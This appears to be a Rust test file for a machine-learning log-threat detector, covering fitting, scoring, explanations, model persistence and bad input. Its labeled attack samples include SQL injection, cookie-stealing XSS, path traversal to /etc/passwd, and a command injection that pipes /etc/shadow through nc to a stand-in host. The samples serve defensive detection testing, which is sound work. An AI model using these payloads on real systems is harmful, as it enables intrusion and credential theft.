//! The end-to-end detector: fitting, scoring, explaining, persistence and bad input.

use soc_core::{DetectorParams, Error, Fired, Severity, text::to_text};

fn corpus() -> (Vec<String>, Vec<bool>) {
    let users = ["alice", "bob", "carol", "dave", "erin"];
    let pages = ["index", "products", "cart", "search", "about", "login"];
    let mut lines = Vec::new();
    let mut labels = Vec::new();
    for i in 0..600 {
        let line = match i % 3 {
            0 => format!(
                "GET /{}.html?page={} HTTP/1.1 200 {}",
                pages[i % pages.len()],
                i % 13,
                1000 + i
            ),
            1 => format!(
                "sshd: Accepted password for {} from 10.0.{}.{} port 22",
                users[i % 5],
                i % 7,
                i % 200
            ),
            _ => format!(
                "CRON: session opened for user {} by uid {}",
                users[(i / 3) % 5],
                i % 4
            ),
        };
        lines.push(line);
        labels.push(false);
    }
    let attacks = [
        "GET /products.html?id=1' UNION SELECT password FROM users-- HTTP/1.1",
        "GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1",
        "GET /../../../../etc/passwd HTTP/1.1",
        "GET /cgi-bin/test.sh?cmd=;cat%20/etc/shadow|nc%20evil.example%204444 HTTP/1.1",
    ];
    for i in 0..60 {
        lines.push(format!("{} {}", attacks[i % attacks.len()], i));
        labels.push(true);
    }
    (lines, labels)
}

fn params() -> DetectorParams {
    let mut params = DetectorParams {
        random_state: Some(11),
        n_jobs: Some(1),
        ..DetectorParams::default()
    };
    params.forest.n_estimators = 20;
    params.isolation.n_estimators = 50;
    params
}

#[test]
fn supervised_detector_flags_attacks_and_explains_them() {
    let (lines, labels) = corpus();
    let detector = params().fit(&lines, Some(&labels)).unwrap();
    let attack = "GET /cart.html?id=7' UNION SELECT card FROM users-- HTTP/1.1";
    let benign = "GET /about.html?page=3 HTTP/1.1 200 1234";
    let (a, b) = (detector.score_one(attack), detector.score_one(benign));
    assert!(a.risk > b.risk + 3.0, "{a:?} vs {b:?}");
    assert!(a.severity >= Severity::High && b.severity <= Severity::Medium);
    assert!(detector.is_threat(a.risk) && !detector.is_threat(b.risk));

    let why = detector.explain(attack);
    assert_eq!(why.score, a);
    assert!(matches!(why.fired, Fired::Classifier | Fired::Both));
    let top: Vec<&str> = why
        .top_terms
        .iter()
        .take(4)
        .map(|t| t.term.as_str())
        .collect();
    assert!(
        top.iter().any(|t| ["union", "select", "users"].contains(t)),
        "{top:?}"
    );
    assert!(
        why.unusual_features
            .iter()
            .any(|f| f.feature == "quotes" || f.feature == "comment_markers")
    );
    // The explanation is what the server stores.
    let json = serde_json::to_value(&why).unwrap();
    assert_eq!(
        json["fired"],
        serde_json::json!(if why.fired == Fired::Both {
            "both"
        } else {
            "classifier"
        })
    );
}

#[test]
fn unsupervised_detector_ranks_odd_lines_higher() {
    let (lines, labels) = corpus();
    let benign: Vec<&String> = lines
        .iter()
        .zip(&labels)
        .filter(|(_, l)| !**l)
        .map(|(t, _)| t)
        .collect();
    let detector = params().fit(&benign, None).unwrap();
    assert!(detector.classifier().is_none());
    let scores = detector.score(&lines);
    let risks: Vec<f64> = scores.iter().map(|s| s.risk).collect();
    let auc = soc_core::metrics::roc_auc(&risks, &labels).unwrap();
    assert!(auc > 0.9, "anomaly-only ROC AUC {auc}");
    assert!(scores.iter().all(|s| s.malicious_probability == 0.0));
}

#[test]
fn batch_equals_one_by_one_and_threads_do_not_change_the_model() {
    let (lines, labels) = corpus();
    let one = params().fit(&lines, Some(&labels)).unwrap();
    let two = DetectorParams {
        n_jobs: Some(2),
        ..params()
    }
    .fit(&lines, Some(&labels))
    .unwrap();
    let (rf1, rf2) = (one.classifier().unwrap(), two.classifier().unwrap());
    assert_eq!(rf1.feature_importances(), rf2.feature_importances());
    assert_eq!(
        (rf1.n_nodes(), rf1.max_tree_depth()),
        (rf2.n_nodes(), rf2.max_tree_depth())
    );
    let batch = two.score(&lines);
    for (line, score) in lines.iter().zip(&batch) {
        assert_eq!(*score, one.score_one(line));
    }
}

#[test]
fn round_trips_through_the_artifact_format() {
    let (lines, labels) = corpus();
    let detector = params().fit(&lines, Some(&labels)).unwrap();
    let bytes = detector.to_bytes();
    let header = soc_core::read_header(&bytes).unwrap();
    assert_eq!(header.kind, "detector");
    assert_eq!(header.metrics["n_malicious"], 60);
    let loaded = soc_core::Detector::from_bytes(&bytes).unwrap();
    assert_eq!(loaded, detector);
    assert_eq!(loaded.score(&lines), detector.score(&lines));

    let path = std::env::temp_dir().join(format!("soc-detector-{}.cgsoc", std::process::id()));
    detector.save(&path).unwrap();
    assert_eq!(soc_core::Detector::load(&path).unwrap(), detector);
    std::fs::remove_file(&path).unwrap();

    // Every truncation and a flipped byte anywhere is an error, never a panic.
    for len in (0..bytes.len()).step_by(bytes.len() / 97 + 1) {
        assert!(soc_core::Detector::from_bytes(&bytes[..len]).is_err());
    }
    for at in (0..bytes.len()).step_by(bytes.len() / 131 + 1) {
        let mut bad = bytes.clone();
        bad[at] ^= 0x5a;
        assert!(
            soc_core::Detector::from_bytes(&bad).is_err(),
            "flipped byte {at}"
        );
    }
    // A vectorizer is not a detector.
    let tfidf = detector.vectorizer().to_bytes();
    assert!(matches!(
        soc_core::Detector::from_bytes(&tfidf),
        Err(Error::InvalidModel(_))
    ));
}

#[test]
fn bad_input_is_a_typed_error() {
    let (lines, labels) = corpus();
    let empty: [&str; 0] = [];
    assert!(matches!(
        params().fit(&empty, None),
        Err(Error::InvalidInput(_))
    ));
    let benign_only = vec![false; lines.len()];
    let err = params().fit(&lines, Some(&benign_only)).unwrap_err();
    assert!(
        err.to_string().contains("both benign and malicious"),
        "{err}"
    );
    assert!(matches!(
        params().fit(&lines, Some(&labels[1..])),
        Err(Error::ShapeMismatch { .. })
    ));
    let bad = DetectorParams {
        max_line_bytes: 0,
        ..params()
    };
    assert!(matches!(
        bad.fit(&lines, None),
        Err(Error::InvalidParameter { .. })
    ));
    // Lines with no word at all leave the vocabulary empty.
    assert!(params().fit(&["!!", "??"], None).is_err());
    // One distinct line fits, but gives the isolation forest nothing to contrast: every line
    // gets the same, low anomaly (documented on `DetectorParams::fit`).
    let same = vec!["the same line"; 50];
    let detector = params().fit(&same, None).unwrap();
    let (a, b) = (
        detector.score_one("the same line"),
        detector.score_one("' OR 1=1 -- ;cat /etc/passwd"),
    );
    assert_eq!(
        (a.anomaly, a.malicious_probability),
        (b.anomaly, b.malicious_probability)
    );
    assert!(a.risk < 7.0);
    // Signatures do not need the models: the attack is still a threat.
    assert!(b.signature.is_some() && b.risk >= 7.0, "{b:?}");
}

#[test]
fn odd_lines_are_scored_safely() {
    let (lines, labels) = corpus();
    let detector = params().fit(&lines, Some(&labels)).unwrap();
    let huge = "A' OR 1=1 -- ".repeat(400_000); // ~5 MB
    let garbage = to_text(b"\xff\xfe id=\xc3 \x00\x01 UNION");
    for line in [
        "",
        " ",
        "\u{feff}",
        "日本語のログ",
        huge.as_str(),
        garbage.as_ref(),
    ] {
        let score = detector.score_one(line);
        assert!((0.0..=10.0).contains(&score.risk), "{line:.20}: {score:?}");
    }
    // Only the first max_line_bytes count: a 5 MB line scores as its prefix.
    let cut = &huge[..soc_core::DEFAULT_MAX_LINE_BYTES];
    assert_eq!(detector.score_one(&huge), detector.score_one(cut));
}

/// Lines of an application format the labeled corpus does not contain: long key=value
/// records with words no labeled line has.
fn app_lines(range: std::ops::Range<usize>) -> Vec<String> {
    let stages = ["reconcile", "settle", "dispatch", "archive"];
    range
        .map(|i| {
            format!(
                "ledgerd worker={} INFO batch={} stage={} shard=eu-{} rows={} elapsed_ms={} \
                 queue_depth={} retries={} upstream=clearing-{}.internal region=eu-west-{} \
                 tenant_ref=acct{} checksum_ok=true compression=zstd level={}",
                4000 + i % 17,
                i * 7919,
                stages[i % stages.len()],
                i % 5,
                100 + (i * 37) % 900,
                3 + (i * 13) % 250,
                i % 31,
                i % 3,
                i % 9,
                1 + i % 3,
                10_000 + i * 13 % 5000,
                1 + i % 9
            )
        })
        .collect()
}

#[test]
fn background_lines_teach_the_anomaly_side_a_new_normal_format() {
    let (lines, labels) = corpus();
    let background = app_lines(0..800);
    let fresh = app_lines(5000..5200);
    let without = params().fit(&lines, Some(&labels)).unwrap();
    let with = params()
        .fit_with_background(&lines, Some(&labels), &background)
        .unwrap();

    // Mean anomaly, mean risk and threats among fresh lines of the app's format.
    let summary = |d: &soc_core::Detector| {
        let scores = d.score(&fresh);
        let n = fresh.len() as f64;
        (
            scores.iter().map(|s| s.anomaly).sum::<f64>() / n,
            scores.iter().map(|s| s.risk).sum::<f64>() / n,
            scores.iter().filter(|s| d.is_threat(s.risk)).count(),
        )
    };
    let (before, after) = (summary(&without), summary(&with));
    assert!(
        after.0 < before.0 - 0.03,
        "(mean anomaly, mean risk, threats) without background {before:?}, with {after:?}"
    );
    let unusual = |d: &soc_core::Detector| {
        d.score(&fresh)
            .iter()
            .filter(|s| s.anomaly >= d.risk_scorer().params().threshold)
            .count()
    };
    assert_eq!(unusual(&with), 0);
    // Neither risk nor threats rise: the classifier is the same, only anomaly moved.
    assert!(
        after.1 <= before.1 && after.2 <= before.2,
        "{before:?} {after:?}"
    );
    // The classifier's training set is the labeled lines only.
    assert_eq!(with.training_size(), without.training_size());
    assert_eq!(with.training_size(), (lines.len(), 60));
    // Attacks still stand out for both models.
    let attack = "GET /cart.html?id=7' UNION SELECT card FROM users-- HTTP/1.1";
    assert!(with.is_threat(with.score_one(attack).risk));
    // The classifier and its features are exactly those of the fit without background.
    assert_eq!(with.vectorizer(), without.vectorizer());
    assert_eq!(with.classifier(), without.classifier());
    let p = |d: &soc_core::Detector| -> Vec<f64> {
        d.score(&lines)
            .iter()
            .map(|s| s.malicious_probability)
            .collect()
    };
    assert_eq!(p(&with), p(&without));
}

#[test]
fn background_lines_are_never_benign_examples_for_the_classifier() {
    let (lines, labels) = corpus();
    // Unlabeled traffic that contains attacks: were it given to the classifier as benign,
    // 600 benign copies of the attacks would outvote the 60 labeled ones.
    let attacks: Vec<String> = lines
        .iter()
        .zip(&labels)
        .filter(|(_, l)| **l)
        .map(|(t, _)| t.clone())
        .cycle()
        .take(600)
        .collect();
    let detector = params()
        .fit_with_background(&lines, Some(&labels), &attacks)
        .unwrap();
    let scores = detector.score(&attacks[..60]);
    let mean_p = scores.iter().map(|s| s.malicious_probability).sum::<f64>() / 60.0;
    assert!(mean_p > 0.9, "mean malicious probability {mean_p}");
}

#[test]
fn background_fits_are_reproducible_across_thread_counts() {
    let (lines, labels) = corpus();
    let background = app_lines(0..700);
    let one = params()
        .fit_with_background(&lines, Some(&labels), &background)
        .unwrap();
    let two = DetectorParams {
        n_jobs: Some(2),
        ..params()
    }
    .fit_with_background(&lines, Some(&labels), &background)
    .unwrap();
    // Same model: same vocabulary, same calibration, same trees, hence the same scores.
    assert_eq!(one.vectorizer(), two.vectorizer());
    assert_eq!(one.risk_scorer(), two.risk_scorer());
    let (rf1, rf2) = (one.classifier().unwrap(), two.classifier().unwrap());
    assert_eq!(rf1.feature_importances(), rf2.feature_importances());
    assert_eq!(rf1.n_nodes(), rf2.n_nodes());
    let all: Vec<&String> = lines.iter().chain(&background).collect();
    assert_eq!(one.score(&all), two.score(&all));
    // An empty background is `fit`.
    let plain = params().fit(&lines, Some(&labels)).unwrap();
    let empty: [&str; 0] = [];
    let with_empty = params()
        .fit_with_background(&lines, Some(&labels), &empty)
        .unwrap();
    assert_eq!(plain, with_empty);
}

#[test]
fn background_bad_input_is_a_typed_error() {
    let empty: [&str; 0] = [];
    let background = app_lines(0..800);
    // Labels with no labeled line: the rules of `fit` apply to the labeled lines.
    assert!(matches!(
        params().fit_with_background(&empty, Some(&[]), &background),
        Err(Error::InvalidInput(_))
    ));
    assert!(matches!(
        params().fit_with_background(&empty, None, &empty),
        Err(Error::InvalidInput(_))
    ));
    let (lines, labels) = corpus();
    assert!(matches!(
        params().fit_with_background(&lines, Some(&labels[1..]), &background),
        Err(Error::ShapeMismatch { .. })
    ));
    // Without labels, the background alone is a corpus: an anomaly-only detector of it.
    let detector = params()
        .fit_with_background(&empty, None, &background)
        .unwrap();
    assert!(detector.classifier().is_none());
    assert_eq!(detector.training_size(), (0, 0));
    let normal = detector.score_one(&app_lines(900..901)[0]);
    let odd = detector.score_one("GET /../../../../etc/passwd' OR 1=1 -- HTTP/1.1");
    assert!(odd.anomaly > normal.anomaly + 0.2, "{normal:?} vs {odd:?}");
}
